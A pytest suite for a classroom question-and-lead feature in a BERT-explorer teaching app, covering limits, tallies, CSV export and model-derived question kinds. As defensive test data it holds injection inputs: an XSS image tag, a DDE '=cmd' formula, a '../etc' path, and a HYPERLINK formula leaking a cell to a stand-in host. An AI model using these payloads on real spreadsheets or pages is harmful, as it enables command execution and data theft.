"""The teacher leads, the class answers (app/class_store/classroom.py, app/board/questions.py), on each
board store (the `board` fixture: SQLite and PostgreSQL): the lead's versions and time-outs, the
question's limits (one open, a day's count, answers per question, changes each, lengths, control
characters, choices), normalised tallies, the reveal, the teacher's CSV, a restart, a flood; and
each question kind worked out on a tiny model; a signed-in student's real name in the teacher's CSV,
escaped. The browser test: tests/browser/test_class_follow_browser.py."""

import csv
import io
import json
import threading

import numpy as np
import pytest

from app.board import questions
from app.board.charts import answers_figure
from app.class_store import classroom as cr
from app.class_store.classroom import Classroom, is_right, normal_answer
from app.class_store.errors import BoardError
from app.class_store.store import KEEP_SECONDS, LEAD_IDLE_S, LEAD_MAX_S
from app.lessons import LESSONS
from bert import InputError
from tests.helpers import tiny_bundle

T0 = 1_800_000_000.0


def body(kind="pieces", choices=None, answer="are"):
    return {
        "kind": kind,
        "prompt": "Which word?",
        "choices": choices,
        "answer": answer,
        "accept": [answer],
        "why": "because",
        "figure": None,
        "model": "tiny",
    }


@pytest.fixture
def cls(board):
    code, key = board.new_board(now=T0)
    return Classroom(board), code, key


def test_the_lead_changes_version_only_when_the_view_does_and_ends_on_stop_idle_or_age(cls):
    c, code, key = cls
    assert c.class_poll(code, now=T0)["lead"] is None
    with pytest.raises(BoardError, match="turn it on again"):  # a heartbeat begins nothing
        c.lead(code, key, "attention", {"layer": "2"}, now=T0)
    assert c.lead(code, key, "attention", {"layer": "2"}, start=True, now=T0) == 1
    assert c.lead(code, key, "attention", {"layer": "2"}, now=T0 + 10) == 1  # the heartbeat
    assert c.lead(code, key, "attention", {"layer": "3"}, now=T0 + 20) == 2
    assert c.lead(code, key, "masked_lm", {"layer": "3"}, now=T0 + 30) == 3
    lead = c.class_poll(code, now=T0 + 31)["lead"]
    assert lead == {"version": (T0, 3), "page": "masked_lm", "view": {"layer": "3"}, "address": {"layer": "3"}}
    # the teacher's address (defaults left out) is kept beside the whole view; a new address is a new version
    assert c.lead(code, key, "masked_lm", {"layer": "3"}, address={}, now=T0 + 30) == 4
    assert c.class_poll(code, now=T0 + 31)["lead"]["address"] == {}
    assert c.class_poll(code, now=T0 + 30 + LEAD_IDLE_S + 1)["lead"] is None  # the teacher went quiet
    beat = T0 + 30
    with pytest.raises(BoardError, match="turn it on again"):  # a teacher who keeps leading: ended after LEAD_MAX_S
        while beat < T0 + 2 * LEAD_MAX_S:
            beat += LEAD_IDLE_S / 2
            c.lead(code, key, "masked_lm", {"layer": "3"}, now=beat)
    assert T0 + LEAD_MAX_S < beat <= T0 + LEAD_MAX_S + LEAD_IDLE_S
    assert c.class_poll(code, now=beat)["lead"] is None
    c.lead(code, key, "home", {}, start=True, now=beat)
    assert c.class_poll(code, now=beat)["lead"]["page"] == "home"
    c.stop_leading(code, key)
    assert c.class_poll(code, now=beat)["lead"] is None
    c.lead(code, key, "attention", {}, start=True, now=beat + 1)  # begun again: count 1, a new version all the same
    assert c.class_poll(code, now=beat + 1)["lead"]["version"] == (beat + 1, 1)


def test_a_lead_written_before_addresses_were_kept_is_followed_at_its_view(cls):
    c, code, key = cls
    c.lead(code, key, "home", {}, start=True, now=T0)
    with c.store.transaction() as db:  # the row as the previous version wrote it: the view alone
        db.execute("UPDATE lead SET view = ? WHERE code = ?", (json.dumps({"layer": "2", "view": "heads"}), code))
    lead = c.class_poll(code, now=T0)["lead"]
    assert lead["view"] == lead["address"] == {"layer": "2", "view": "heads"}


def test_only_the_boards_key_leads_or_asks_and_a_lead_is_bounded(cls):
    c, code, key = cls
    for act in (lambda k: c.lead(code, k, "home", {}, start=True, now=T0), lambda k: c.ask(code, k, body(), now=T0)):
        with pytest.raises(BoardError, match="teacher key"):
            act("not the key")
        with pytest.raises(BoardError, match="teacher key"):
            act("")
    for page, view in [("../etc", {}), ("a" * 41, {}), ("home", {"x": 1}), ("home", {str(i): "" for i in range(30)})]:
        with pytest.raises(BoardError):
            c.lead(code, key, page, view, start=True, now=T0)
    for address in [{"x": 1}, {str(i): "" for i in range(30)}, ["a"]]:
        with pytest.raises(BoardError):
            c.lead(code, key, "home", {}, address=address, start=True, now=T0)
    c.lead(code, key, "home", {"a": "x" * 5000 + "\x00"}, address={"a": "y" * 5000}, start=True, now=T0)
    lead = c.class_poll(code, now=T0)["lead"]
    assert len(lead["view"]["a"]) == len(lead["address"]["a"]) == cr.VIEW_CHARS
    with pytest.raises(BoardError, match="no class"):
        c.class_poll("ZZZZZZ", now=T0)


def test_one_open_question_fifty_a_day_and_answers_close_at_the_reveal(cls):
    c, code, key = cls
    q1 = c.ask(code, key, body(), now=T0)
    with pytest.raises(BoardError, match="reveal its answer"):
        c.ask(code, key, body(), now=T0)
    c.answer(code, q1, "s1", "are", now=T0)
    c.reveal(code, key, q1)
    with pytest.raises(BoardError, match="closed"):
        c.answer(code, q1, "s2", "are", now=T0)
    assert c.class_poll(code, now=T0)["question"]["state"] == "revealed"
    for i in range(cr.MAX_QUESTIONS - 1):
        q = c.ask(code, key, body(), now=T0 + i)
        c.reveal(code, key, q)
    with pytest.raises(BoardError, match="50 questions today"):
        c.ask(code, key, body(), now=T0 + 100)


def test_answers_are_bounded_normalised_and_one_per_student(cls):
    c, code, key = cls
    q = c.ask(code, key, body(), now=T0)
    for bad, why in [
        ("", "Type an answer"),
        ("   ", "Type an answer"),
        ("x" * 81, "at most 80"),
        ("a\u202eb", "control"),
        ("a\x00b", "control"),
        ("x" * 10_000, "at most 80"),
    ]:
        with pytest.raises(BoardError, match=why):
            c.answer(code, q, "s1", bad, now=T0)
    c.answer(code, q, "s1", "Are", now=T0)
    c.answer(code, q, "s2", " ARE. ", now=T0 + 1)
    c.answer(code, q, "s3", "<img src=x onerror=alert(1)>", now=T0 + 2)
    c.answer(code, q, "s3", "is", now=T0 + 3)  # changed: still one answer of s3
    poll = c.class_poll(code, now=T0 + 4)["question"]
    tally, n = c.tally(q, poll["version"])
    assert n == 3 and tally == {"Are": 2, "is": 1}
    assert c.my_answer(q, "s3") == "is" and c.my_answer(q, "nobody") is None
    for _ in range(cr.MAX_CHANGES):
        c.answer(code, q, "s1", "was", now=T0 + 5)
    with pytest.raises(BoardError, match="changed your answer 20 times"):
        c.answer(code, q, "s1", "be", now=T0 + 6)
    assert normal_answer("«Paris»") == normal_answer("##paris") == normal_answer("ｐａｒｉｓ.") == "paris"
    assert is_right(body(), "ARE!") and not is_right(body(), "is") and is_right(body(), None) is None


def test_an_answer_is_one_line_without_a_tower_of_marks(cls):
    """A line or paragraph separator is refused as control characters are; so is a letter with
    more than ANSWER_MARKS marks stacked on it. Real words keep theirs: Vietnamese decomposed
    (two marks on a letter) and pointed Hebrew (four)."""
    c, code, key = cls
    q = c.ask(code, key, body(), now=T0)
    for bad, why in [
        ("a\u2028b", "line breaks"),
        ("a\u2029b", "line breaks"),
        ("x\u0301\u0302\u0303\u0304\u0306", "more than 4 accents or marks"),
        ("Z" + "\u0336\u0337\u0338\u0335\u0334" * 3 + "algo", "more than 4 accents or marks"),
    ]:
        with pytest.raises(BoardError, match=why):
            c.answer(code, q, "s1", bad, now=T0)
    assert cr.most_marks("ca\u0301fe\u0301") == 0  # composed: é is one character
    for fine in ("Vie\u0323\u0302t", "\u05e9\u05bc\u05c1\u05b8\u0591", "naïve", "नमस्ते"):
        c.answer(code, q, "s1", fine, now=T0)
        assert c.my_answer(q, "s1") == fine


@pytest.mark.slow
@pytest.mark.parametrize("board", ["sqlite"], indirect=True)
def test_the_teachers_csv_is_built_when_downloaded_not_on_every_run(board, monkeypatch):
    """After a reveal the teacher's page offers the class's answers as a CSV: built by the
    download (a deferred button), never by a run of the page; a full-width ＝ is prefixed as = is."""
    from streamlit.testing.v1 import AppTest

    from app.board import question_view
    from app.class_store.service import JOINED, TEACHER
    from tests.helpers import ENTRY

    monkeypatch.setenv("BERT_EXPLORER_BOARD", "1")
    c = Classroom(board)
    code, key = board.new_board()
    q = c.ask(code, key, body())
    c.answer(code, q, "browser:aaa", "are")
    c.answer(code, q, "browser:bbb", "\uff1d1+1")
    c.reveal(code, key, q)
    built = []
    table = Classroom.answers_table
    monkeypatch.setattr(Classroom, "answers_table", lambda self, *a: built.append(a) or table(self, *a))

    at = AppTest.from_file(ENTRY, default_timeout=120)
    at.run()
    at.session_state[JOINED] = code
    at.session_state[TEACHER] = (code, key)
    for _ in range(3):
        at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert built == []  # three full runs after the reveal
    (button,) = [b for b in at.get("download_button") if b.proto.id.endswith("-ask_csv")]
    assert button.proto.deferred_file_id and not button.proto.url  # its data: a callable, run on a click

    rows = list(csv.reader(io.StringIO(question_view.answers_csv(code, key).decode("utf-8-sig"))))
    assert [r[rows[0].index("answer")] for r in rows[1:]] == ["are", "'\uff1d1+1"] and len(built) == 1


def test_a_question_with_choices_takes_only_its_choices(cls):
    c, code, key = cls
    q = c.ask(code, key, body(choices=["yes", "no"], answer="yes"), now=T0)
    with pytest.raises(BoardError, match="Pick one"):
        c.answer(code, q, "s1", "maybe", now=T0)
    c.answer(code, q, "s1", "no", now=T0)
    assert c.my_answer(q, "s1") == "no"


def test_two_hundred_students_a_question_and_a_flood_is_one_read_a_version(cls, monkeypatch):
    c, code, key = cls
    q = c.ask(code, key, body(), now=T0)
    for i in range(cr.MAX_ANSWERS):
        c.answer(code, q, f"s{i}", "are" if i % 2 else "is", now=T0)
    with pytest.raises(BoardError, match="200 students"):
        c.answer(code, q, "one more", "are", now=T0)
    c.answer(code, q, "s0", "are", now=T0)  # one who answered may still change it
    version = c.class_poll(code, now=T0)["question"]["version"]
    assert c.tally(q, version) == ({"are": 101, "is": 99}, 200)
    reads = []
    real = c.store.transaction
    monkeypatch.setattr(c.store, "transaction", lambda write=True: reads.append(write) or real(write))
    for _ in range(50):  # 50 viewers of the same version
        c.tally(q, version)
    assert reads == []


def test_a_flood_of_answers_from_threads_keeps_every_limit(cls):
    c, code, key = cls
    q = c.ask(code, key, body(), now=T0)
    errors = []

    def flood(who):
        for i in range(30):
            try:
                c.answer(code, q, who, f"a{i}", now=T0)
            except BoardError as e:
                errors.append(str(e))

    threads = [threading.Thread(target=flood, args=(f"s{i}",)) for i in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    _, n = c.tally(q, c.class_poll(code, now=T0)["question"]["version"])
    assert n == 4  # one answer each
    assert len(errors) == 4 * (30 - 1 - cr.MAX_CHANGES) and all("20 times" in e for e in errors)


def test_the_teachers_csv_numbers_students_and_a_restart_keeps_it_all(cls, replica):
    c, code, key = cls
    q = c.ask(code, key, body(), now=T0)
    c.answer(code, q, "browser:aaa", "are", now=T0)
    c.answer(code, q, "browser:bbb", "=cmd|'/c calc'!A1", now=T0 + 1)
    c.reveal(code, key, q)
    again = Classroom(replica)  # another replica, or the same server restarted
    rows = again.answers_table(code, key)
    assert [(r["student"], r["answer"], r["right"]) for r in rows] == [
        ("student 1", "are", True),
        ("student 2", "=cmd|'/c calc'!A1", False),
    ]
    assert "browser:" not in json.dumps(rows)
    assert again.class_poll(code, now=T0 + 2)["question"]["state"] == "revealed"
    with pytest.raises(BoardError, match="teacher key"):
        again.answers_table(code, "wrong")


def test_the_gradebooks_scores_count_each_students_right_answers_of_the_days_questions(cls, board):
    c, code, key = cls
    q1 = c.ask(code, key, body(answer="are"), now=T0)
    c.answer(code, q1, "user:ann", "are", now=T0)
    c.answer(code, q1, "user:bob", "is", now=T0)
    c.reveal(code, key, q1)
    q2 = c.ask(code, key, body(answer="were"), now=T0 + 10)
    c.answer(code, q2, "user:ann", "were", now=T0 + 10)
    assert c.scores(code, key) == (2, {"user:ann": 2, "user:bob": 0})
    other, other_key = board.new_board(now=T0)  # another class's questions are not this one's
    c.ask(other, other_key, body(), now=T0)
    assert c.scores(code, key) == (2, {"user:ann": 2, "user:bob": 0})
    with pytest.raises(BoardError, match="teacher key"):
        c.scores(code, "wrong")


def test_questions_and_leads_go_with_the_day(cls):
    c, code, key = cls
    q = c.ask(code, key, body(), now=T0)
    c.answer(code, q, "s1", "are", now=T0)
    later = T0 + KEEP_SECONDS + 1
    c.store.expire(now=later)
    with pytest.raises(BoardError, match="no class"):
        c.class_poll(code, now=later)
    with c.store.transaction(write=False) as db:
        assert db.execute("SELECT COUNT(*) FROM answers").fetchone()[0] == 0


def test_the_answers_figure_names_no_student_and_escapes_answers():
    fig = answers_figure({"are": 2, "<b>x</b>" + "y" * 100: 1}, model_answer="ARE")
    bar = fig.data[0]
    assert list(bar.x) == [2, 1] and bar.y[1].startswith("&lt;b&gt;") and len(bar.y[1]) <= 50
    assert bar.marker.color[0] == "#2ca02c" and bar.marker.color[1] != "#2ca02c"


# --- the kinds, worked out on a tiny model ----------------------------------------------------------


@pytest.fixture(scope="module")
def tiny():
    return tiny_bundle()


def test_every_kind_gives_the_models_own_answer_and_a_figure(tiny):
    from bert.analysis.compare import attentions_of
    from bert.analysis.mlm import mlm_topk, nsp_probability

    text = "the cat sat on the [MASK] ."
    b = questions.mask_question(tiny, text, "tiny")
    assert b["choices"] is None and b["answer"] == mlm_topk(tiny, text, k=1).top_tokens[0][0].removeprefix("##")
    tokens, att = attentions_of(tiny, "the cat sat on the mat")
    b = questions.look_question(tiny, "the cat sat on the mat", 1, 0, 2, "tiny")
    assert b["answer"] == b["choices"][int(np.argmax(att[1, 0, 2]))] and len(set(b["choices"])) == len(tokens)
    p = nsp_probability(tiny, "the cat sat", "on the mat")
    assert questions.follows_question(tiny, "the cat sat", "on the mat", "tiny")["answer"] == (
        "yes" if p >= 0.5 else "no"
    )
    b = questions.pieces_question(tiny, "cats", "tiny")
    assert b["answer"] == questions.PIECE_CHOICES[min(len(tiny.tokenizer.tokenize("cats")), 6) - 1]
    b = questions.heads_question(tiny, text, "tiny")
    assert b["answer"] in b["choices"] and len(b["choices"]) == 3
    for label in questions.lesson_questions(LESSONS):  # all 15, each answered from its choices, its figure drawable
        b = questions.lesson_question(tiny, label, "tiny", LESSONS)
        assert b["answer"] in b["choices"] and (b["figure"] is None or json.loads(b["figure"])["data"]), label
    assert len(questions.lesson_questions(LESSONS)) == 15
    for kind in ("mask", "look", "follows", "pieces", "heads"):
        made = {
            "mask": lambda: questions.mask_question(tiny, text, "t"),
            "look": lambda: questions.look_question(tiny, "the cat", 0, 0, 0, "t"),
            "follows": lambda: questions.follows_question(tiny, "a", "b", "t"),
            "pieces": lambda: questions.pieces_question(tiny, "cat", "t"),
            "heads": lambda: questions.heads_question(tiny, text, "t"),
        }[kind]()
        assert json.loads(made["figure"])["data"], kind
        assert len(json.dumps(made).encode()) < cr.BODY_BYTES


def test_kinds_refuse_what_they_cannot_ask(tiny):
    with pytest.raises(InputError, match=r"\[MASK\]"):
        questions.mask_question(tiny, "no mask here", "t")
    with pytest.raises(InputError, match="sentence B"):
        questions.follows_question(tiny, "a", " ", "t")
    for word in ("", "two words", "x" * 41):
        with pytest.raises(InputError, match="one word"):
            questions.pieces_question(tiny, word, "t")
    with pytest.raises(InputError, match="not in this model"):
        questions.look_question(tiny, "the cat", 9, 0, 0, "t")


@pytest.fixture(scope="module")
def run():
    from tests.helpers import tiny_seq2seq_run

    return tiny_seq2seq_run()


def _ask_answer_reveal(cls, b: dict, right: str, wrong: str) -> None:
    """Ask `b`, one student answers the model's answer and one another, reveal: each is told right
    or wrong by the model's answer, and the tally counts both."""
    c, code, key = cls
    q = c.ask(code, key, b, now=T0)
    c.answer(code, q, "s1", right, now=T0)
    c.answer(code, q, "s2", wrong, now=T0)
    c.reveal(code, key, q)
    assert c.class_poll(code, now=T0)["question"]["state"] == "revealed"
    kept = c.question(q)
    assert kept["answer"] == b["answer"] and is_right(kept, c.my_answer(q, "s1"))
    assert not is_right(kept, c.my_answer(q, "s2"))
    assert sum(c.tally(q, c.class_poll(code, now=T0)["question"]["version"])[0].values()) == 2


def test_a_left_to_right_reader_question_is_the_causal_reading_of_the_same_weights(cls, tiny):
    from bert.analysis.mlm import mlm_topk

    text = "the cat sat on the [MASK] ."
    b = questions.left_question(tiny, text, "tiny")
    left = mlm_topk(tiny, text, k=1, mask_kind="causal").top_tokens[0][0].removeprefix("##")
    assert b["kind"] == "left" and b["choices"] is None and b["answer"] == left
    assert json.loads(b["figure"])["data"] and len(json.dumps(b).encode()) < cr.BODY_BYTES
    _ask_answer_reveal(cls, b, left, "zzz" if left != "zzz" else "yyy")
    with pytest.raises(InputError, match=r"\[MASK\]"):
        questions.left_question(tiny, "no mask here", "t")


def test_the_decoder_question_is_the_trained_decoders_own_cross_attention(cls, run):
    dec = run["bundle"]
    b = questions.writes_question(dec, "cat moon egg", 2, dec.name)
    tr = dec.trace("cat moon egg")
    row = tr.cross[-1].mean(0)[1].numpy()
    assert b["kind"] == "writes" and b["choices"] == questions._choice_labels(tr.source)
    assert b["answer"] == b["choices"][int(np.argmax(row))] and f"«{tr.outputs[1]}»" in b["prompt"]
    assert json.loads(b["figure"])["data"] and len(json.dumps(b).encode()) < cr.BODY_BYTES
    _ask_answer_reveal(cls, b, b["answer"], next(x for x in b["choices"] if x != b["answer"]))
    T = len(tr.outputs)
    for word in (0, T + 1):
        with pytest.raises(InputError, match=f"pick a word from 1 to {T}"):
            questions.writes_question(dec, "cat moon egg", word, "t")
    with pytest.raises(InputError, match="Type a source"):
        questions.writes_question(dec, "  ", 1, "t")


@pytest.mark.slow
def test_the_decoder_question_is_offered_only_once_the_session_trained_one(run):
    """The teacher's "Ask the class": without a trained encoder-decoder the kind is not in the list
    and the popover says why; with the session's run it is, on that decoder and source."""
    from streamlit.testing.v1 import AppTest

    def script():
        from app.board import question_view

        question_view.ask_popover("CODE", "KEY")

    at = AppTest.from_function(script, default_timeout=60).run()
    assert not at.exception, [e.value for e in at.exception]
    label = questions.KINDS["writes"]
    assert (
        label not in at.selectbox(key="ask_kind").options
        and questions.KINDS["left"] in at.selectbox(key="ask_kind").options
    )
    assert any("needs an encoder-decoder trained in this session" in c.value for c in at.caption)
    at.session_state["s2s_result"] = run
    at.run()
    assert label in at.selectbox(key="ask_kind").options
    at.selectbox(key="ask_kind").set_value("writes").run()
    assert not at.exception, [e.value for e in at.exception]
    assert at.number_input(key="ask_writing").value == 3
    from app.formatting import md_escape

    assert any(md_escape(run["bundle"].name) in c.value for c in at.caption)


@pytest.mark.slow
@pytest.mark.parametrize("board", ["sqlite"], indirect=True)
def test_the_teacher_asks_at_which_layer_the_mask_knows(cls):
    """ "Ask the class": the patching kind on a preset of the Causes page, worked out on the loaded
    model (minilm-l6) and opened for the class with the layers as its choices."""
    from streamlit.testing.v1 import AppTest

    from bert.analysis.patching import PRESETS

    c, code, key = cls

    def script(code, key):
        from app.board import question_view

        question_view.ask_popover(code, key)

    at = AppTest.from_function(script, args=(code, key), default_timeout=120).run()
    at.selectbox(key="ask_kind").set_value("knows").run()
    assert not at.exception and at.selectbox(key="ask_pair").options == list(PRESETS)
    at.selectbox(key="ask_pair").set_value("Number agreement").run()
    at.button(key="ask_go").click().run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    q = c.class_poll(code)["question"]
    kept = c.question(q["id"])
    assert kept["kind"] == "knows" and kept["choices"][0] == "embeddings" and len(kept["choices"]) == 7
    assert kept["answer"] in kept["choices"][1:-1] and "«are» rather than «is»" in kept["prompt"]


@pytest.mark.parametrize("board", ["sqlite"], indirect=True)
def test_the_teacher_asks_which_sentence_the_model_prefers(cls):
    """ "Ask the class": a built-in minimal pair picked by paradigm and number, scored on the
    loaded model (minilm-l6), opened with both sentences as the choices."""
    from streamlit.testing.v1 import AppTest

    from app.formatting import md_escape
    from bert.analysis.paradigms import PARADIGMS

    c, code, key = cls

    def script(code, key):
        from app.board import question_view

        question_view.ask_popover(code, key)

    at = AppTest.from_function(script, args=(code, key), default_timeout=120).run()
    at.selectbox(key="ask_kind").set_value("prefers").run()
    name = list(PARADIGMS)[1]
    at.selectbox(key="ask_paradigm").set_value(name).run()
    at.number_input(key="ask_pair_number").set_value(2).run()
    good, bad = PARADIGMS[name].pairs[1]
    shown = [cap.value for cap in at.caption]
    assert not at.exception and any(md_escape(good) in v and md_escape(bad) in v for v in shown), shown
    at.button(key="ask_go").click().run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    kept = c.question(c.class_poll(code)["question"]["id"])
    assert kept["kind"] == "prefers" and kept["choices"] == sorted([good, bad]) and kept["answer"] in (good, bad)


HOSTILE_NAME = '=HYPERLINK("http://x.example/?"&A1,"Alice")'


def test_the_teachers_csv_names_signed_in_students_escaped(board, monkeypatch):
    monkeypatch.setenv("BERT_EXPLORER_BOARD", "1")
    c = Classroom(board)
    code, key = board.new_board()
    q = c.ask(code, key, body())
    c.answer(code, q, "user:alice", "are", name=HOSTILE_NAME, email="alice@school.example")
    c.answer(code, q, "browser:bbb", "is")  # anonymous
    c.reveal(code, key, q)
    from app.board.question_view import answers_csv

    rows = list(csv.DictReader(io.StringIO(answers_csv(code, key).decode("utf-8-sig"))))
    assert [(r["student"], r["name"], r["email"], r["answer"]) for r in rows] == [
        ("student 1", "'" + HOSTILE_NAME, "alice@school.example", "are"),  # no formula runs in a spreadsheet
        ("student 2", "", "", "is"),
    ]


@pytest.mark.parametrize("board", ["sqlite"], indirect=True)
def test_the_teacher_asks_which_word_makes_a_feature_fire_most(cls):
    """ "Ask the class": the feature the Features page's card shows, of the loaded model's built-in
    dictionary (minilm-l6 ships one), on the words the teacher types; the answer is the model's."""
    from streamlit.testing.v1 import AppTest

    import bert
    from bert.analysis.dictionary_builtin import builtin_dictionary
    from bert.analysis.dictionary_words import word_activations

    shipped = builtin_dictionary("minilm-l6")
    if shipped is None:
        pytest.skip("minilm-l6 ships no dictionary here")
    c, code, key = cls
    words = ["dog", "ran", "the", "quickly"]
    d, b = shipped.dictionary, bert.load("minilm-l6")
    feature = next(
        f for f in range(d.n_features) if sorted(acts := word_activations(b, d, f, words))[-2] < max(acts) > 0
    )  # a feature one of these words sets highest

    def script(code, key):
        from app.board import question_view

        question_view.ask_popover(code, key)

    at = AppTest.from_function(script, args=(code, key), default_timeout=120)
    at.session_state["ft_feature"] = feature
    at.run()
    at.selectbox(key="ask_kind").set_value("fires").run()
    assert not at.exception and any(f"About feature {feature}" in cap.value for cap in at.caption)
    at.text_input(key="ask_fires_words").input(", ".join(words)).run()
    at.button(key="ask_go").click().run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    kept = c.question(c.class_poll(code)["question"]["id"])
    acts = word_activations(b, d, feature, words)
    assert kept["kind"] == "fires" and kept["choices"] == words and kept["answer"] == words[acts.index(max(acts))]
